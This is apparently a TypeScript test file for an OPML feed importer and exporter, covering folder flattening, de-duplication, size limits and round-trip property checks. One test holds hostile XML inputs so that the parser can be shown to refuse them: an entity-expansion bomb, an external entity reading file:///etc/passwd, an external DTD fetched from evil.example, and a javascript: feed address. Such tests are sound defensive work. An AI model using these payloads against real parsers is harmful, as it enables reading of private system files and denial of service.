import fc from "fast-check";
import { expect, it } from "vitest";
import { readOpml, writeOpml } from "@/lib/feeds/opml";
import { cleanLine } from "@/lib/feeds/plain-text";
import { webAddress } from "@/lib/feeds/web-address";

const list = (outlines: string) =>
  `<opml version="2.0"><head><title>Mine</title></head><body>${outlines}</body></opml>`;

it("folders are flattened, the same feed comes once, what is no address is named", () => {
  const text = list(`
    <outline text="Ports"><outline text="Deep"><outline text="Pier &amp; quay" type="rss" xmlUrl="https://pier.example/feed?a=1&amp;utm_source=x" htmlUrl="https://pier.example"/></outline></outline>
    <outline title="Again" xmlUrl="https://pier.example/feed?a=1"/>
    <outline text="Bad" xmlUrl="javascript:alert(1)"/><outline text="A note"/>`);
  expect(readOpml(text)).toEqual({
    feeds: [
      {
        title: "Pier & quay",
        url: "https://pier.example/feed?a=1&utm_source=x",
        siteUrl: "https://pier.example/",
      },
    ],
    refused: [{ title: "Bad", address: "javascript:alert(1)" }],
  });
});

it("hostile and foreign files are refused whole, with a reason", () => {
  const one = '<outline text="a" xmlUrl="https://a.example/f"/>';
  const bomb = `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>${list(one)}`;
  expect(() => readOpml(bomb)).toThrow("entities");
  expect(() => readOpml(bomb.replace('"aaaaaaaaaa"', 'SYSTEM "file:///etc/passwd"'))).toThrow("entities");
  expect(() => readOpml(`<!DOCTYPE opml SYSTEM "http://evil.example/x.dtd" [%x;]>${list(one)}`)).toThrow(
    "entities",
  );
  expect(() => readOpml(list(one.repeat(1_001)))).toThrow("1,000");
  expect(() => readOpml(" ".repeat(2_000_001))).toThrow("2 MB");
  expect(() => readOpml(list('<outline text="a">'.repeat(5_000)))).toThrow("Nothing was taken in");
  expect(() => readOpml(list(""))).toThrow("names no feed");
  for (const text of ["", "words", "<html></html>", "{}"]) expect(() => readOpml(text)).toThrow();
});

it("what is written out comes in again", () => {
  const feed = fc.record({
    title: fc.string({ unit: "grapheme", maxLength: 60 }).map((title) => cleanLine(title, 60)),
    url: fc.webUrl({ withQueryParameters: true }),
    siteUrl: fc.option(fc.webUrl()),
  });
  const keyOf = (url: string) => webAddress(url)?.canonicalUrl;
  const usable = fc
    .uniqueArray(feed, { selector: ({ url }) => keyOf(url), minLength: 1, maxLength: 30 })
    .map((feeds) => feeds.filter(({ url }) => keyOf(url) !== undefined))
    .filter((feeds) => feeds.length > 0);
  fc.assert(
    fc.property(usable, (feeds) => {
      const { feeds: read, refused } = readOpml(writeOpml(feeds, new Date(0)));
      expect(refused).toEqual([]);
      expect(read).toEqual(
        feeds.map(({ title, url, siteUrl }) => ({
          title: title || url,
          url: new URL(url).href,
          siteUrl: siteUrl && (webAddress(siteUrl)?.url ?? null),
        })),
      );
    }),
  );
});
